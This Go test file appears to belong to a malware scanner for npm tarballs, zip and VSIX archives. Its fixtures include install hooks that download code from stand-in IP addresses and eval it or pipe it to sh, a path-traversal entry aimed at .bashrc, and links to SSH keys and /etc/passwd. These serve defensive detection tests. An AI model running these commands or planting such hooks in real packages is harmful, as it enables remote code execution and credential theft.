package lure

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

type entry struct {
	name, body string
	mode       fs.FileMode
	typ        byte // tar type flag, 0 for a regular file
	link       string
}

func makeZip(t *testing.T, entries []entry) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, e := range entries {
		h := &zip.FileHeader{Name: e.name, Method: zip.Deflate}
		if e.mode != 0 {
			h.SetMode(e.mode)
		}
		w, err := zw.CreateHeader(h)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(e.body)); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func makeTgz(t *testing.T, entries []entry) []byte {
	t.Helper()
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for _, e := range entries {
		typ := e.typ
		if typ == 0 {
			typ = tar.TypeReg
		}
		mode := int64(0o644)
		if e.mode != 0 {
			mode = int64(e.mode.Perm())
		}
		h := &tar.Header{Name: e.name, Typeflag: typ, Mode: mode, Size: int64(len(e.body)), Linkname: e.link}
		if typ != tar.TypeReg {
			h.Size = 0
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if typ == tar.TypeReg {
			if _, err := tw.Write([]byte(e.body)); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := gz.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func rulesOf(rep *Report) map[string]Finding {
	m := map[string]Finding{}
	for _, f := range rep.Findings {
		if _, ok := m[f.Rule]; !ok {
			m[f.Rule] = f
		}
	}
	return m
}

// An npm package tarball is scanned in memory like a directory: its
// install script is found under package/.
func TestScanNpmTarball(t *testing.T) {
	b := makeTgz(t, []entry{
		{name: "package/package.json", body: `{"name":"vite-plugin-test","version":"1.0.0","main":"index.js","scripts":{"postinstall":"node lib/setup.js"}}`},
		{name: "package/index.js", body: "module.exports = () => ({ name: 'x' });\n"},
		{name: "package/lib/setup.js", body: "const h = require('https');\nh.get('https://198.51.100.20:1224/pdown', r => { let s = ''; r.on('data', c => s += c); r.on('end', () => eval(s)); });\n"},
	})
	rep, err := ScanBytes(context.Background(), b, "vite-plugin-test-1.0.0.tgz", Options{})
	if err != nil {
		t.Fatal(err)
	}
	if rep.Verdict != Malicious || rep.Findings[0].File != "package/lib/setup.js" || rep.Findings[0].Trigger != OnInstall {
		t.Fatalf("%s %+v", rep.Verdict, rep.Findings)
	}
}

// Traversal, absolute paths, links and devices are refused, reported,
// and never read; the rest of the archive is still scanned.
func TestArchiveRefusesUnsafeEntries(t *testing.T) {
	b := makeTgz(t, []entry{
		{name: "app/index.js", body: "console.log(1)\n"},
		{name: "../../.bashrc", body: "curl https://x.invalid | sh\n"},
		{name: "/etc/cron.d/job", body: "* * * * * root true\n"},
		{name: "app/link", typ: tar.TypeSymlink, link: "/home/user/.ssh/id_rsa"},
		{name: "app/hard", typ: tar.TypeLink, link: "/etc/passwd"},
		{name: "app/dev", typ: tar.TypeChar},
		{name: "app/fifo", typ: tar.TypeFifo},
	})
	rep, err := ScanBytes(context.Background(), b, "x.tar.gz", Options{})
	if err != nil {
		t.Fatal(err)
	}
	n := map[string]int{}
	for _, f := range rep.Findings {
		n[f.Rule]++
		if strings.Contains(f.File, "..") || strings.HasPrefix(f.File, "/") {
			t.Errorf("unsafe path in a finding: %+v", f)
		}
	}
	if n["archive-unsafe-entry"] != 2 || n["archive-link"] != 2 || n["archive-special-file"] != 2 {
		t.Errorf("refusals %v", n)
	}
	if n["pipe-to-shell"] != 0 {
		t.Error("read a refused entry")
	}
	if rep.Verdict != Suspicious {
		t.Errorf("verdict %s", rep.Verdict)
	}
	z := makeZip(t, []entry{
		{name: "ok.js", body: "1\n"},
		{name: `..\..\win.js`, body: "2\n"},
		{name: "C:/abs.js", body: "3\n"},
		{name: "sym", body: "/etc/passwd", mode: fs.ModeSymlink | 0o777},
	})
	rep, err = ScanBytes(context.Background(), z, "x.zip", Options{})
	if err != nil {
		t.Fatal(err)
	}
	got := rulesOf(rep)
	if _, ok := got["archive-unsafe-entry"]; !ok {
		t.Errorf("zip traversal not refused: %v", rep.Findings)
	}
	if _, ok := got["archive-link"]; !ok {
		t.Errorf("zip symlink not refused: %v", rep.Findings)
	}
}

// Zip and gzip bombs stop the reading at the ratio or size limit.
func TestArchiveBombs(t *testing.T) {
	zeros := strings.Repeat("\x00", 16<<20)
	z := makeZip(t, []entry{{name: "a.js", body: "1\n"}, {name: "big.bin", body: zeros}})
	rep, err := ScanBytes(context.Background(), z, "bomb.zip", Options{})
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := rulesOf(rep)["archive-bomb"]; !ok {
		t.Errorf("zip bomb not stopped: %+v", rep.Findings)
	}
	tg := makeTgz(t, []entry{{name: "big.bin", body: zeros}, {name: "after.js", body: "eval(atob('x'))"}})
	rep, err = ScanBytes(context.Background(), tg, "bomb.tgz", Options{Limits: Limits{MaxTotal: 1 << 20}})
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := rulesOf(rep)["archive-bomb"]; !ok || rep.Verdict < Suspicious {
		t.Errorf("tar bomb not stopped: %+v", rep.Findings)
	}
	var many []entry
	for i := 0; i < 20; i++ {
		many = append(many, entry{name: "f" + itoa(i) + ".txt", body: "x"})
	}
	rep, err = ScanBytes(context.Background(), makeZip(t, many), "many.zip", Options{Limits: Limits{MaxEntries: 10}})
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := rulesOf(rep)["archive-bomb"]; !ok || rep.Files > 10 {
		t.Errorf("entry limit: %d files, %+v", rep.Files, rep.Findings)
	}
}

// Scan takes an archive file by path too, and refuses what is neither a
// directory nor an archive.
func TestScanPathArchive(t *testing.T) {
	dir := t.TempDir()
	p := filepath.Join(dir, "test.vsix")
	z := makeZip(t, []entry{
		{name: "extension/package.json", body: `{"name":"ext","scripts":{"postinstall":"curl -s http://203.0.113.4/x | sh"}}`},
	})
	if err := os.WriteFile(p, z, 0o644); err != nil {
		t.Fatal(err)
	}
	rep, err := Scan(context.Background(), p, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if rep.Verdict != Malicious {
		t.Errorf("vsix: %s %+v", rep.Verdict, rep.Findings)
	}
	txt := filepath.Join(dir, "notes.txt")
	if err := os.WriteFile(txt, []byte("hello"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Scan(context.Background(), txt, Options{}); err == nil {
		t.Error("a text file scanned as an archive")
	}
}
